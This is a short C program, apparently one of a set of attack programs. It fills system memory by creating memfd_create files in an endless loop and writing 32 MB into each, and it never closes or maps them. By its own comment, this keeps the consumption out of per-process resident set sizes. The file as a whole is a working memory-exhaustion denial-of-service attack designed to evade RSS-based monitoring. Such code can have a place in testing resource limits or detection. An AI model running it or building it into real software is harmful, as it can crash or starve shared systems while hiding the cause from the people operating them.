// Fills memory files that no process maps, which resident set sizes do not show.
#include "attack.h"
#include <sys/mman.h>
int main(void) {
  static char block[1 << 20];
  memset(block, 1, sizeof(block));
  for (;;) {
    const int file = memfd_create("hog", 0);
    if (file < 0) broken("memfd_create");
    for (int i = 0; i < 32; ++i) {
      if (write(file, block, sizeof(block)) < 0) return 1;
      usleep(500);
    }
  }
}
